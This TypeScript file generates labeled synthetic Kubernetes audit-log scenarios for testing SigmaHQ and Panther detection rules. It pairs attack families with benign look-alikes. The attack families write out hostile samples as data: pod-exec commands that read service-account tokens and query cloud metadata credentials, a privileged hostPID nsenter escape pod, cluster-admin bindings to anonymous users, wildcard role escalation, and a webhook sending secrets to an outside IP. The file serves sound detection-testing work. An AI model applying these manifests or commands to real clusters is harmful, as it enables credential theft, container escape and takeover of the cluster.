/**
 * Cluster attacks beyond CronJobs, so the SigmaHQ and Panther Kubernetes rules have something to
 * find, each with benign look-alikes: pod exec/attach, secret reads and listing, privileged /
 * hostPath / hostNetwork pods, RBAC (cluster-admin bindings, role changes), admission webhook
 * changes, anonymous access, node proxy, service-account token requests, port-forward, DaemonSets
 * and images from unusual registries. Techniques are the ones the public rules claim (several,
 * comma-separated, where SigmaHQ and Panther file the same activity differently); Atomic Red Team
 * test ids where a published test does exactly this.
 */
import { container } from '../container.js'
import { image } from '../image.js'
import { namespace } from '../namespace.js'
import { objectName } from '../objectName.js'
import { podSpec } from '../podSpec.js'
import { securityContext } from '../securityContext.js'
import { actor } from '../actor.js'
import { makeAction } from '../_internals/builders/action.js'
import { objectMeta, podObject, podTemplate, type PodSpecInput } from '../_internals/builders/objects.js'
import { caller, controller, kubectlCaller, requestMeta, type Caller } from '../_internals/scenario.js'
import { constant, constantFrom, integer, record, tuple, weighted, type Gen } from '../_internals/gen.js'
import type { FamilyLabels, Outcome, Scenario, Verb } from '../types.js'
import { defineFamily, type Family } from './family.js'

type Obj = Record<string, unknown>

interface RequestOptions {
  family: string
  verb: Gen<Verb>
  resource: string
  subresource?: string
  namespace?: Gen<string>
  name: Gen<string | undefined>
  caller: Gen<Caller>
  /** The request body, for the request's namespace and name. */
  body?: (namespace: string | undefined, name: string | undefined) => Gen<Obj | undefined>
  query?: Gen<string | undefined>
  outcome?: Gen<Outcome>
  /** Refused requests are the step `<family>.denied`. */
  deniedStep?: boolean
}

/** One API request of a family (exec, a secret read, a binding create, …). */
function request(o: RequestOptions): Gen<Scenario> {
  return record({
    verb: o.verb,
    namespace: o.namespace ?? constant(undefined),
    name: o.name,
    caller: o.caller,
    query: o.query ?? constant(undefined),
    outcome: o.outcome ?? constant<Outcome | undefined>(undefined),
    meta: requestMeta,
  }).bind((drawn) => (o.body ? o.body(drawn.namespace, drawn.name) : constant<Obj | undefined>(undefined)).map((body) => ({ ...drawn, body }))).map((r) => {
    // Created: 201 (a TokenRequest too); connection upgrades (exec, attach, port-forward) set their own 101; proxied calls answer the kubelet's 200.
    const out: Outcome = r.outcome ?? { code: r.verb === 'create' && o.subresource !== 'proxy' ? 201 : 200 }
    const collection = r.verb === 'list' || r.verb === 'watch'
    const action = makeAction({
      verb: r.verb,
      resource: o.resource,
      ...(o.subresource ? { subresource: o.subresource } : {}),
      ...(r.namespace !== undefined ? { namespace: r.namespace } : {}),
      ...(r.name !== undefined && !collection ? { name: r.name } : {}),
      actor: r.caller.actor,
      client: r.caller.client,
      userAgent: r.caller.userAgent,
      sourceIp: r.caller.sourceIp,
      ...(r.body ? { body: r.body } : {}),
      // A patch or update answers with the stored object.
      ...((r.verb === 'patch' || r.verb === 'update') && r.body && 'kind' in r.body ? { current: r.body } : {}),
      ...(r.query !== undefined ? { query: r.query } : {}),
      outcome: out,
      meta: r.meta,
    })
    const family = out.code >= 400 && o.deniedStep ? `${o.family}.denied` : o.family
    return { family: o.family, steps: [{ family, action }] }
  })
}

const attack = (technique: string, atomic: string | null = null): FamilyLabels => ({ malicious: true, technique, atomic })
const benign: FamilyLabels = { malicious: false, technique: null, atomic: null }

/** A person, or a service-account token used from outside its pod. */
const attacker = weighted([3, kubectlCaller()], [2, caller('compromised-sa')])
const people = weighted([3, caller('human')], [1, caller('admin')])
const appNs = weighted([2, constant('default')], [3, namespace({ kind: 'app' })])
const allowedMostly = weighted<Outcome>([12, constant({ code: 200 })], [1, constant({ code: 403, deniedBy: 'rbac' })])
const createdMostly = weighted<Outcome>([12, constant({ code: 201 })], [1, constant({ code: 403, deniedBy: 'rbac' })])
const podName = objectName().map((n) => `${n}-${n.length % 7 === 0 ? '0' : '7d9f8c6b5-x2x4q'}`)

/** `kubectl exec` / `attach` query strings as the API server logs them (`command` repeated per argv item). */
function execQuery(argv: readonly string[], tty: boolean): string {
  const cmd = argv.map((a) => `command=${encodeURIComponent(a)}`).join('&')
  return `${cmd}&container=${'main'}&stdin=true&stdout=true${tty ? '&tty=true' : '&stderr=true'}`
}

const SHELLS: readonly (readonly string[])[] = [['/bin/sh'], ['/bin/bash'], ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'], ['/bin/sh', '-c', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'], ['uname']]

// --- pod exec / attach (T1609) ---

export const podExec: Family = defineFamily({
  name: 'atomic.pod-exec',
  description: 'Atomic Red Team T1609 (ExecIntoContainer): `kubectl exec` of a shell or a token/metadata grab into a running pod — create pods/exec, the command in the query string.',
  labels: attack('T1609', 'art:d03bfcd3-ed87-49c8-8880-44bb772dea4b'),
  steps: ['atomic.pod-exec', 'atomic.pod-exec.denied'],
  weight: 2,
  scenario: request({
    family: 'atomic.pod-exec',
    deniedStep: true,
    verb: constant<Verb>('create'),
    resource: 'pods',
    subresource: 'exec',
    namespace: appNs,
    name: podName,
    caller: attacker,
    query: tuple(constantFrom<readonly string[]>(...SHELLS), constantFrom(true, false)).map(([argv, tty]) => execQuery(argv, tty)),
    outcome: weighted<Outcome>([10, constant({ code: 101 })], [1, constant({ code: 403, deniedBy: 'rbac' })]),
  }),
})

export const podAttach: Family = defineFamily({
  name: 'atomic.pod-attach',
  description: '`kubectl attach -it` to a running container (create pods/attach).',
  labels: attack('T1609'),
  weight: 1,
  scenario: request({
    family: 'atomic.pod-attach',
    verb: constant<Verb>('create'),
    resource: 'pods',
    subresource: 'attach',
    namespace: appNs,
    name: podName,
    caller: attacker,
    query: constant('container=main&stdin=true&stdout=true&tty=true'),
    outcome: constant<Outcome>({ code: 101 }),
  }),
})

export const benignExec: Family = defineFamily({
  name: 'benign.operator-exec',
  description: 'Look-alike of pod exec: health checks and backups by operators (`pg_isready`, `redis-cli ping`, `nodetool status`) and an on-call engineer running `ls` or `env` in a debug session.',
  labels: benign,
  weight: 2,
  scenario: request({
    family: 'benign.operator-exec',
    verb: constant<Verb>('create'),
    resource: 'pods',
    subresource: 'exec',
    namespace: constantFrom('data', 'cache', 'monitoring'),
    name: podName,
    caller: weighted([3, caller('operator')], [1, caller('human')]),
    query: constantFrom<readonly string[]>(['pg_isready', '-U', 'postgres'], ['redis-cli', 'ping'], ['nodetool', 'status'], ['ls', '/data'], ['env']).map((argv) => execQuery(argv, false)),
    outcome: constant<Outcome>({ code: 101 }),
  }),
})

// --- port-forward (T1572) and node proxy (T1609: the kubelet API through the API server) ---

export const portForward: Family = defineFamily({
  name: 'atomic.port-forward',
  description: '`kubectl port-forward` to a database or admin port of a pod from outside the cluster (create pods/portforward).',
  labels: attack('T1572'),
  weight: 1,
  scenario: request({
    family: 'atomic.port-forward',
    verb: constant<Verb>('create'),
    resource: 'pods',
    subresource: 'portforward',
    namespace: appNs,
    name: podName,
    caller: attacker,
    query: constantFrom('ports=5432', 'ports=6379', 'ports=9200', 'ports=8080'),
    outcome: constant<Outcome>({ code: 101 }),
  }),
})

export const benignPortForward: Family = defineFamily({
  name: 'benign.dev-port-forward',
  description: 'Look-alike: a developer port-forwarding to their own app in a dev namespace (ports 3000, 8080).',
  labels: benign,
  weight: 1,
  scenario: request({
    family: 'benign.dev-port-forward',
    verb: constant<Verb>('create'),
    resource: 'pods',
    subresource: 'portforward',
    namespace: constantFrom('dev', 'web', 'staging'),
    name: podName,
    caller: caller('human'),
    query: constantFrom('ports=3000', 'ports=8080'),
    outcome: constant<Outcome>({ code: 101 }),
  }),
})

export const nodeProxy: Family = defineFamily({
  name: 'atomic.node-proxy',
  description: 'The kubelet API reached through the API server (get nodes/proxy: /run, /exec, /pods, /runningpods) by a person or a stolen token.',
  labels: attack('T1609'),
  steps: ['atomic.node-proxy', 'atomic.node-proxy.denied'],
  weight: 1,
  scenario: request({
    family: 'atomic.node-proxy',
    deniedStep: true,
    verb: constantFrom<Verb>('get', 'create'),
    resource: 'nodes',
    subresource: 'proxy',
    name: integer(1, 250).map((n) => `ip-10-0-${n % 16}-${n}.ec2.internal`),
    caller: attacker,
    outcome: allowedMostly,
  }),
})

export const benignNodeProxy: Family = defineFamily({
  name: 'benign.metrics-node-proxy',
  description: 'Look-alike: Prometheus scraping kubelet metrics through the API server (get nodes/proxy /metrics/cadvisor).',
  labels: benign,
  weight: 2,
  scenario: request({
    family: 'benign.metrics-node-proxy',
    verb: constant<Verb>('get'),
    resource: 'nodes',
    subresource: 'proxy',
    name: integer(1, 250).map((n) => `ip-10-0-${n % 16}-${n}.ec2.internal`),
    caller: caller('operator', ['monitoring/prometheus']),
  }),
})

// --- secrets (T1552.007) ---

export const secretList: Family = defineFamily({
  name: 'atomic.secret-list',
  description: 'Atomic Red Team T1552.007 (ListSecrets): `kubectl get secrets -n <ns>`, and across all namespaces, by a person or a stolen application token.',
  labels: attack('T1552.007', 'art:43c3a49d-d15c-45e6-b303-f6e177e44a9a'),
  steps: ['atomic.secret-list', 'atomic.secret-list.denied'],
  weight: 2,
  scenario: request({
    family: 'atomic.secret-list',
    deniedStep: true,
    verb: constant<Verb>('list'),
    resource: 'secrets',
    namespace: weighted([3, appNs], [1, constant('kube-system')]),
    name: constant(undefined),
    caller: attacker,
    outcome: weighted<Outcome>([4, constant({ code: 200 })], [1, constant({ code: 403, deniedBy: 'rbac' })]),
  }),
})

export const secretRead: Family = defineFamily({
  name: 'atomic.secret-read',
  description: 'get of credentials secrets (registry, cloud keys, TLS, service-account tokens) by a user that does not normally read them.',
  labels: attack('T1552.007'),
  steps: ['atomic.secret-read', 'atomic.secret-read.denied'],
  weight: 2,
  scenario: request({
    family: 'atomic.secret-read',
    deniedStep: true,
    verb: constant<Verb>('get'),
    resource: 'secrets',
    namespace: weighted([3, appNs], [1, constant('kube-system')]),
    name: constantFrom('regcred', 'aws-credentials', 'db-password', 'tls-wildcard', 'default-token-x8kq2', 'argocd-secret'),
    caller: attacker,
    outcome: allowedMostly,
  }),
})

export const benignSecretRead: Family = defineFamily({
  name: 'benign.operator-secret-read',
  description: 'Look-alike: operators (cert-manager, argocd, external-secrets) reading and listing the secrets they own.',
  labels: benign,
  weight: 3,
  scenario: request({
    family: 'benign.operator-secret-read',
    verb: weighted<Verb>([3, constant('get')], [1, constant('list')]),
    resource: 'secrets',
    namespace: constantFrom('cert-manager', 'argocd', 'web', 'default'),
    name: constantFrom('tls-wildcard', 'argocd-secret', 'letsencrypt-account-key', 'web-tls'),
    caller: weighted([1, caller('operator', ['cert-manager/cert-manager'])], [1, caller('gitops')]),
  }),
})

// --- pods that break out: privileged, hostPath, hostNetwork/hostPID (T1611) ---

const escapeSpec: Gen<PodSpecInput> = constantFrom('privileged', 'hostpath', 'hostnetwork', 'nsenter').bind((kind) => {
  const shell = container({ name: constantFrom('shell', 'debug', '1'), image: image({ set: 'shell' }), command: { command: ['sleep', 'infinity'] }, resourcesChance: 0 })
  switch (kind) {
    case 'privileged':
      return tuple(shell, securityContext({ kind: 'privileged' })).map(([c, sc]) => ({ restartPolicy: 'Never' as const, containers: [{ ...c, securityContext: sc }] }))
    case 'hostpath':
      return shell.map((c) => ({
        restartPolicy: 'Never' as const,
        volumes: [{ name: 'host', hostPath: { path: '/', type: '' } }],
        containers: [{ ...c, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
      }))
    case 'hostnetwork':
      return shell.map((c) => ({ restartPolicy: 'Never' as const, hostNetwork: true, containers: [c] }))
    default:
      // The ART test's override: hostPID, privileged alpine running nsenter into PID 1's mount namespace.
      return constant({
        restartPolicy: 'Never' as const,
        hostPID: true,
        containers: [{ name: '1', image: 'alpine', command: ['nsenter', '--mount=/proc/1/ns/mnt', '--', '/bin/bash'], stdin: true, tty: true, securityContext: { privileged: true } }],
      } as PodSpecInput)
  }
})

export const escapePod: Family = defineFamily({
  name: 'atomic.escape-pod',
  description:
    'Pods made to escape to the node: privileged (or SYS_ADMIN), hostPath `/`, hostNetwork, and Atomic Red Team T1611 test 1 (hostPID privileged alpine running nsenter) — `kubectl run` by a person or a stolen token.',
  labels: attack('T1611', 'art:0b2f9520-a17a-4671-9dba-3bd034099fff'),
  steps: ['atomic.escape-pod', 'atomic.escape-pod.denied'],
  weight: 2,
  scenario: request({
    family: 'atomic.escape-pod',
    deniedStep: true,
    verb: constant<Verb>('create'),
    resource: 'pods',
    namespace: appNs,
    name: constantFrom('atomic-nsenter-escape-pod', 'debug', 'shell', 'tmp-root'),
    body: (ns, name) => escapeSpec.map((spec) => podObject({ name: name!, namespace: ns!, labels: { run: name! } }, spec)),
    caller: attacker,
    outcome: weighted<Outcome>([10, constant({ code: 201 })], [1, constant({ code: 403, deniedBy: 'admission' })], [1, constant({ code: 403, deniedBy: 'rbac' })]),
  }),
})

/** Node agents as their DaemonSet controller creates them: privileged, host network and host paths by design. */
const agentSpec: Gen<PodSpecInput> = constantFrom(
  { name: 'node-exporter', image: 'quay.io/prometheus/node-exporter:v1.8.2', path: '/proc' },
  { name: 'calico-node', image: 'docker.io/calico/node:v3.28.2', path: '/lib/modules' },
  { name: 'fluent-bit', image: 'cr.fluentbit.io/fluent/fluent-bit:3.1.9', path: '/var/log' },
).map((a) => ({
  restartPolicy: 'Always' as const,
  hostNetwork: true,
  volumes: [{ name: 'host', hostPath: { path: a.path, type: '' } }],
  containers: [{ name: a.name, image: a.image, securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: `/host${a.path}`, readOnly: true }] }],
}))

export const benignAgentPod: Family = defineFamily({
  name: 'benign.node-agent-pod',
  description: 'Look-alike of escape pods: the daemon-set-controller creating node-exporter / calico-node / fluent-bit pods (privileged, hostNetwork, hostPath) in system namespaces.',
  labels: benign,
  weight: 3,
  scenario: request({
    family: 'benign.node-agent-pod',
    verb: constant<Verb>('create'),
    resource: 'pods',
    namespace: constantFrom('kube-system', 'monitoring', 'logging'),
    name: constant(undefined),
    body: (ns) => agentSpec.map((spec) => podObject({ generateName: `${spec.containers[0]!.name}-`, namespace: ns!, labels: { app: spec.containers[0]!.name } }, spec)),
    caller: controller('daemon-set-controller'),
  }),
})

// --- DaemonSets (T1610) and unusual registries (T1204.003) ---

function daemonSet(ns: string, name: string, spec: PodSpecInput): Obj {
  const labels = { app: name }
  return {
    kind: 'DaemonSet',
    apiVersion: 'apps/v1',
    metadata: objectMeta({ name, namespace: ns, labels }),
    spec: { selector: { matchLabels: labels }, template: podTemplate(spec, labels), updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: 1, maxSurge: 0 } }, revisionHistoryLimit: 10 },
    status: {},
  }
}

const UNUSUAL_IMAGES = ['docker.io/xmrig/xmrig:latest', 'ghcr.io/x1337/kube-tools:latest', 'registry.example.net/miner:6.21', '45.9.148.0:5000/agent:1', 'docker.io/kalilinux/kali-rolling'] as const

export const daemonSetDeploy: Family = defineFamily({
  name: 'atomic.daemonset',
  description: 'A DaemonSet (a pod on every node) created by a person or a stolen token, running an image from a public or unknown registry.',
  labels: attack('T1610'),
  steps: ['atomic.daemonset', 'atomic.daemonset.denied'],
  weight: 1,
  scenario: request({
    family: 'atomic.daemonset',
    deniedStep: true,
    verb: constant<Verb>('create'),
    resource: 'daemonsets',
    namespace: weighted([2, constant('kube-system')], [1, appNs]),
    name: constantFrom('kube-proxy-ext', 'node-agent', 'sys-monitor'),
    body: (ns, name) => constantFrom(...UNUSUAL_IMAGES).map((img) => daemonSet(ns!, name!, { restartPolicy: 'Always', hostNetwork: true, containers: [{ name: 'agent', image: img }] })),
    caller: attacker,
    outcome: createdMostly,
  }),
})

export const benignDaemonSet: Family = defineFamily({
  name: 'benign.gitops-daemonset',
  description: 'Look-alike: Argo CD / Flux applying the DaemonSets of node agents from the usual registries.',
  labels: benign,
  weight: 1,
  scenario: request({
    family: 'benign.gitops-daemonset',
    verb: constantFrom<Verb>('create', 'patch'),
    resource: 'daemonsets',
    namespace: constantFrom('monitoring', 'logging', 'kube-system'),
    name: constantFrom('node-exporter', 'fluent-bit', 'calico-node'),
    body: (ns, name) => agentSpec.map((spec) => daemonSet(ns!, name!, spec)),
    caller: caller('gitops'),
  }),
})

export const unusualRegistryPod: Family = defineFamily({
  name: 'atomic.unusual-registry-pod',
  description: 'A pod whose image comes from an unusual registry (Docker Hub miners, an IP-address registry, attacker GHCR), run with kubectl.',
  labels: attack('T1204.003,T1610'),
  weight: 1,
  scenario: request({
    family: 'atomic.unusual-registry-pod',
    verb: constant<Verb>('create'),
    resource: 'pods',
    namespace: appNs,
    name: objectName(),
    body: (ns, name) => constantFrom(...UNUSUAL_IMAGES).map((img) => podObject({ name: name!, namespace: ns!, labels: { run: name! } }, { restartPolicy: 'Always', containers: [{ name: name!, image: img }] })),
    caller: attacker,
  }),
})

export const benignAppPod: Family = defineFamily({
  name: 'benign.app-pod',
  description: 'Look-alike: people running pods from the organisation registries and well-known images.',
  labels: benign,
  weight: 2,
  scenario: request({
    family: 'benign.app-pod',
    verb: constant<Verb>('create'),
    resource: 'pods',
    namespace: appNs,
    name: objectName(),
    body: (ns, name) => weighted([3, image({ set: 'app' })], [1, image({ set: 'web' })]).map((img) => podObject({ name: name!, namespace: ns!, labels: { run: name! } }, { restartPolicy: 'Always', containers: [{ name: 'app', image: img }] })),
    caller: people,
  }),
})

// --- RBAC (T1098) ---

function binding(kind: 'ClusterRoleBinding' | 'RoleBinding', name: string, ns: string | undefined, role: string, subject: Obj): Obj {
  return {
    kind,
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: objectMeta({ name, ...(ns ? { namespace: ns } : {}) }),
    subjects: [subject],
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: kind === 'ClusterRoleBinding' ? 'ClusterRole' : 'ClusterRole', name: role },
  }
}

const rogueSubject = constantFrom<Obj>(
  { kind: 'ServiceAccount', name: 'default', namespace: 'default' },
  { kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'system:anonymous' },
  { kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' },
  { kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'backup-admin@example.com' },
)

export const clusterAdminBinding: Family = defineFamily({
  name: 'atomic.cluster-admin-binding',
  description: 'A ClusterRoleBinding to cluster-admin for a default service account, system:anonymous, every authenticated user or a new user.',
  labels: attack('T1098,T1078.004'),
  steps: ['atomic.cluster-admin-binding', 'atomic.cluster-admin-binding.denied'],
  weight: 2,
  scenario: request({
    family: 'atomic.cluster-admin-binding',
    deniedStep: true,
    verb: constant<Verb>('create'),
    resource: 'clusterrolebindings',
    name: constantFrom('cluster-admin-binding', 'default-admin', 'debug-admin'),
    body: (_ns, name) => rogueSubject.map((s) => binding('ClusterRoleBinding', name!, undefined, 'cluster-admin', s)),
    caller: attacker,
    outcome: createdMostly,
  }),
})

export const roleEscalation: Family = defineFamily({
  name: 'atomic.role-escalation',
  description: 'A Role or ClusterRole patched to wildcard verbs and resources, or to add secrets / pods/exec / nodes/proxy.',
  labels: attack('T1098,T1078.004'),
  weight: 1,
  scenario: request({
    family: 'atomic.role-escalation',
    verb: constantFrom<Verb>('patch', 'update', 'create'),
    resource: 'clusterroles',
    name: constantFrom('view', 'edit', 'monitoring-reader', 'ci-deployer'),
    body: (_ns, name) =>
      constantFrom<Obj[]>(
        [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
        [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list', 'watch'] }],
        [{ apiGroups: [''], resources: ['pods/exec', 'nodes/proxy'], verbs: ['create', 'get'] }],
      ).map((rules) => ({ kind: 'ClusterRole', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: objectMeta({ name: name! }), rules })),
    caller: attacker,
  }),
})

export const benignRbac: Family = defineFamily({
  name: 'benign.gitops-rbac',
  description: 'Look-alike of RBAC changes: GitOps applying RoleBindings to view/edit for teams, and Helm installing an operator ClusterRole.',
  labels: benign,
  weight: 2,
  scenario: request({
    family: 'benign.gitops-rbac',
    verb: constantFrom<Verb>('create', 'patch'),
    resource: 'rolebindings',
    namespace: namespace({ kind: 'app' }),
    name: constantFrom('team-edit', 'team-view', 'ci-deployer'),
    body: (ns, name) => constantFrom('view', 'edit').map((role) => binding('RoleBinding', name!, ns, role, { kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'developers' })),
    caller: caller('gitops'),
  }),
})

// --- admission webhooks (T1546; SigmaHQ files it under T1552.007) ---

function webhookConfig(kind: 'MutatingWebhookConfiguration' | 'ValidatingWebhookConfiguration', name: string, url: string | undefined): Obj {
  const clientConfig = url ? { url } : { service: { namespace: 'cert-manager', name: 'cert-manager-webhook', path: '/validate', port: 443 } }
  return {
    kind,
    apiVersion: 'admissionregistration.k8s.io/v1',
    metadata: objectMeta({ name }),
    webhooks: [
      {
        name: `${name}.example.com`,
        clientConfig,
        rules: [{ operations: ['CREATE', 'UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods', 'secrets'], scope: '*' }],
        failurePolicy: 'Ignore',
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      },
    ],
  }
}

export const admissionWebhook: Family = defineFamily({
  name: 'atomic.admission-webhook',
  description: 'A mutating (or validating) webhook registered or changed by a person or a stolen token, sending every pod and secret to an outside URL.',
  labels: attack('T1546,T1552.007'),
  weight: 1,
  scenario: tuple(constantFrom<'mutatingwebhookconfigurations' | 'validatingwebhookconfigurations'>('mutatingwebhookconfigurations', 'mutatingwebhookconfigurations', 'validatingwebhookconfigurations'), constantFrom<Verb>('create', 'patch', 'delete')).bind(
    ([resource, verb]) =>
      request({
        family: 'atomic.admission-webhook',
        verb: constant(verb),
        resource,
        name: constantFrom('pod-policy', 'sidecar-injector', 'kube-system-hook'),
        body: (_ns, name) =>
          constant(
            verb === 'delete' ? undefined : webhookConfig(resource === 'mutatingwebhookconfigurations' ? 'MutatingWebhookConfiguration' : 'ValidatingWebhookConfiguration', name!, 'https://203.0.113.77:8443/mutate'),
          ),
        caller: attacker,
      }),
  ),
})

export const benignWebhook: Family = defineFamily({
  name: 'benign.operator-webhook',
  description: 'Look-alike: cert-manager / cainjector patching the caBundle of its own webhook configurations.',
  labels: benign,
  weight: 1,
  scenario: request({
    family: 'benign.operator-webhook',
    verb: constant<Verb>('patch'),
    resource: 'validatingwebhookconfigurations',
    name: constant('cert-manager-webhook'),
    body: () => constant(webhookConfig('ValidatingWebhookConfiguration', 'cert-manager-webhook', undefined)),
    caller: caller('operator', ['cert-manager/cert-manager']),
  }),
})

// --- anonymous access (T1190) and service-account tokens (T1528) ---

const anonymous: Gen<Caller> = actor({ kinds: ['anonymous'] }).bind((a) =>
  tuple(constantFrom('curl/8.5.0', 'python-requests/2.32.3', 'Go-http-client/1.1', 'kube-hunter'), constantFrom('198.51.100.23', '203.0.113.9', '192.0.2.144')).map(([ua, ip]) => ({
    actor: a,
    client: 'python' as const,
    userAgent: ua,
    sourceIp: ip,
  })),
)

export const anonymousAccess: Family = defineFamily({
  name: 'atomic.anonymous-access',
  description: 'Unauthenticated requests (system:anonymous) from the internet probing secrets, pods and namespaces; most are forbidden, some allowed by a careless binding.',
  labels: attack('T1190'),
  weight: 2,
  scenario: tuple(constantFrom('secrets', 'pods', 'namespaces', 'configmaps'), constantFrom<Verb>('list', 'get')).bind(([resource, verb]) =>
    request({
      family: 'atomic.anonymous-access',
      verb: constant(verb),
      resource,
      ...(resource === 'namespaces' ? {} : { namespace: constantFrom('default', 'kube-system') }),
      name: objectName(),
      caller: anonymous,
      outcome: weighted<Outcome>([3, constant({ code: 403, deniedBy: 'rbac' })], [1, constant({ code: 200 })]),
    }),
  ),
})

export const saTokenRequest: Family = defineFamily({
  name: 'atomic.sa-token-request',
  description: '`kubectl create token` for a powerful service account (create serviceaccounts/token) by a person or another service account.',
  labels: attack('T1528,T1552'),
  steps: ['atomic.sa-token-request', 'atomic.sa-token-request.denied'],
  weight: 1,
  scenario: request({
    family: 'atomic.sa-token-request',
    deniedStep: true,
    verb: constant<Verb>('create'),
    resource: 'serviceaccounts',
    subresource: 'token',
    namespace: constantFrom('kube-system', 'argocd', 'default'),
    name: constantFrom('clusterrole-aggregation-controller', 'argocd-application-controller', 'default', 'admin'),
    body: () => integer(3600, 31_536_000).map((s) => ({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: null, expirationSeconds: s, boundObjectRef: null }, status: { token: '', expirationTimestamp: null } })),
    caller: attacker,
    outcome: createdMostly,
  }),
})

export const benignTokenRequest: Family = defineFamily({
  name: 'benign.kubelet-token-request',
  description: 'Look-alike: kubelets requesting the projected service-account tokens of the pods on their node (create serviceaccounts/token, bound to a pod).',
  labels: benign,
  weight: 3,
  scenario: request({
    family: 'benign.kubelet-token-request',
    verb: constant<Verb>('create'),
    resource: 'serviceaccounts',
    subresource: 'token',
    namespace: namespace({ kind: 'app' }),
    name: constantFrom('default', 'web', 'api'),
    body: () => podName.map((p) => ({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: ['https://kubernetes.default.svc'], expirationSeconds: 3607, boundObjectRef: { kind: 'Pod', apiVersion: 'v1', name: p } }, status: { token: '', expirationTimestamp: null } })),
    caller: caller('node'),
  }),
})

export const clusterAttackFamilies: readonly Family[] = [
  podExec, podAttach, portForward, nodeProxy, secretList, secretRead, escapePod, daemonSetDeploy, unusualRegistryPod, clusterAdminBinding, roleEscalation, admissionWebhook, anonymousAccess, saTokenRequest,
]

export const clusterBenignFamilies: readonly Family[] = [
  benignExec, benignPortForward, benignNodeProxy, benignSecretRead, benignAgentPod, benignDaemonSet, benignAppPod, benignRbac, benignWebhook, benignTokenRequest,
]
